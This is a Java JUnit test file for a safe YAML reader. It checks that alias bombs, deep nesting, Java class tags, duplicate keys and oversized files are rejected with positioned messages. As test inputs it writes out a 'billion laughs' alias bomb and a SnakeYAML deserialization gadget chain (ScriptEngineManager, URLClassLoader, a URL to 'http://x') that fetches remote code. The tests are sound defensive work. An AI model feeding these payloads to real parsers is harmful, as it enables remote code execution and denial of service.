package dev.grove.loader.config;

import static dev.grove.loader.config.ExperimentFiles.parse;
import static dev.grove.loader.config.ExperimentFiles.problems;
import static dev.grove.loader.config.ExperimentFiles.write;
import static dev.grove.loader.config.ExperimentFiles.writeText;
import static org.assertj.core.api.Assertions.assertThat;

import dev.grove.loader.config.TestComponents.CsvParams;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Hostile or sloppy YAML is refused with a clear, positioned message: alias bombs, deep nesting,
 * class-naming tags, duplicate keys, oversized files. (Speed is not asserted; each case just has to
 * come back with a ConfigException.)
 */
class YamlSafetyTest {

    private static final String TAG_RULE = " is not allowed: tags are not allowed in experiment files (only the standard"
            + " !!str, !!int, !!float, !!bool, !!null, !!seq and !!map; YAML never names a Java class here)";

    @TempDir
    Path dir;

    @Test
    void billionLaughsIsRefusedBeforeAnythingIsExpanded() {
        StringBuilder yaml = new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        for (char c = 'b'; c <= 'i'; c++) {
            String alias = "*" + (char) (c - 1);
            yaml.append(c).append(": &").append(c).append(" [").append(String.join(",", java.util.Collections.nCopies(9, alias)))
                    .append("]\n");
        }
        Path file = writeText(dir, "lol.yaml", yaml.toString());

        // 9 anchors (a to i) and 8 lines of 9 aliases each; the first alias is '*a' on line 2, column 8.
        String rule = ": anchors and aliases are not allowed in experiment files; write each value out in full";
        assertThat(problems(file)).containsExactly(
                new ConfigProblem(file.toString(), 1, 4, "anchor '&a' (and 8 more)" + rule),
                new ConfigProblem(file.toString(), 2, 8, "alias '*a' (and 71 more)" + rule));
    }

    @Test
    void fiftyLevelsOfBlockNestingAreRefusedAtTheThirtyFirst() {
        StringBuilder yaml = new StringBuilder("grove: 1\ndata:\n");
        for (int i = 0; i < 50; i++) {
            yaml.append("  ".repeat(i + 1)).append('k').append(i).append(":\n");
        }
        yaml.append("  ".repeat(51)).append("v\n");
        Path file = writeText(dir, "deep.yaml", yaml.toString());

        // Level 1 is the top mapping; level d >= 2 is the mapping starting at key k(d-2), on line d+1 at column 2d-1.
        assertThat(problems(file)).containsExactly(new ConfigProblem(file.toString(), 32, 61,
                "nesting deeper than 30 levels of lists and mappings is not allowed (an experiment needs only a few)"));
    }

    @Test
    void fiftyLevelsOfFlowNestingAreRefused() {
        Path file = write(dir, "deep.yaml", "grove: 1", "data: " + "[".repeat(50) + "]".repeat(50));

        // Level 2 is the first '[' at column 7 of line 2, so level 31 is at column 36.
        assertThat(problems(file)).containsExactly(new ConfigProblem(file.toString(), 2, 36,
                "nesting deeper than 30 levels of lists and mappings is not allowed (an experiment needs only a few)"));
    }

    @Test
    void thirtyLevelsAreStillReadable() {
        Path file = write(dir, "ok.yaml", "grove: 1", "data: {source: csv, path: a.csv, features: " + "[".repeat(28) + "]".repeat(28) + "}",
                "pipeline: [ridge]");

        // 30 levels (top mapping, data mapping, 28 lists) pass the reader; the binder then rejects the nested list.
        assertThat(problems(file)).singleElement().extracting(ConfigProblem::message).asString()
                .startsWith("wrong type for element 1 of features in data (csv params): expected string, got a list");
    }

    @Test
    void javaClassTagsAreRefusedEachWithItsPosition() {
        Path file = write(dir, "tag.yaml",
                "grove: 1",
                "data: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]",
                "pipeline: [ridge]");

        String f = file.toString();
        assertThat(problems(file)).containsExactly(
                new ConfigProblem(f, 2, 7, "tag '!!javax.script.ScriptEngineManager'" + TAG_RULE),
                new ConfigProblem(f, 2, 43, "tag '!!java.net.URLClassLoader'" + TAG_RULE),
                new ConfigProblem(f, 2, 71, "tag '!!java.net.URL'" + TAG_RULE));
    }

    @Test
    void localAndGlobalTagsAreRefused() {
        Path local = write(dir, "local.yaml", "grove: !foo 1");
        assertThat(problems(local)).containsExactly(new ConfigProblem(local.toString(), 1, 8, "tag '!foo'" + TAG_RULE));

        Path global = write(dir, "global.yaml", "%TAG !e! tag:example.com,2000:", "---", "grove: !e!thing 1");
        assertThat(problems(global)).containsExactly(
                new ConfigProblem(global.toString(), 3, 8, "tag 'tag:example.com,2000:thing'" + TAG_RULE));
    }

    @Test
    void standardTagsAreAllowedAndChecked() {
        Path ok = write(dir, "ok.yaml", "grove: !!int 1", "data: {source: csv, path: !!str 123}", "pipeline: [ridge]");
        assertThat(((CsvParams) parse(ok).data().source().params()).path()).isEqualTo("123");

        Path bad = write(dir, "bad.yaml", "grove: !!int one", "data: {source: csv, path: a.csv}", "pipeline: [ridge]");
        assertThat(problems(bad)).contains(new ConfigProblem(bad.toString(), 1, 8, "'one' is not a valid int (it is tagged as one)"));
    }

    @Test
    void duplicateKeysAreReportedWithBothLines() {
        Path file = write(dir, "dup.yaml",
                "grove: 1",
                "seed: 1",
                "data: {source: csv, path: a.csv, path: b.csv}",
                "pipeline: [ridge]",
                "seed: 2");

        String f = file.toString();
        assertThat(problems(file)).containsExactly(
                new ConfigProblem(f, 3, 34, "duplicate key 'path' (first at line 3, column 21, again at line 3);"
                        + " each key may appear only once"),
                new ConfigProblem(f, 5, 1, "duplicate key 'seed' (first at line 2, column 1, again at line 5);"
                        + " each key may appear only once"));
    }

    @Test
    void oversizedFileIsRefusedWithoutParsing() {
        Path file = writeText(dir, "big.yaml", "# " + "x".repeat(SafeYamlReader.MAX_CODE_POINTS) + "\n");

        assertThat(problems(file)).containsExactly(new ConfigProblem(file.toString(), 0, 0,
                "the text has 1000003 characters; experiment files are limited to 1000000"));
    }

    @Test
    void problemsCarryNoStackTraceText() {
        Path file = write(dir, "x.yaml", "grove: [1, 2", "data: !!java.io.File x");
        List<ConfigProblem> problems = problems(file);
        assertThat(problems).isNotEmpty();
        assertThat(problems).allSatisfy(p -> assertThat(p.message()).doesNotContain("\tat ", "Exception", "\n"));
    }
}
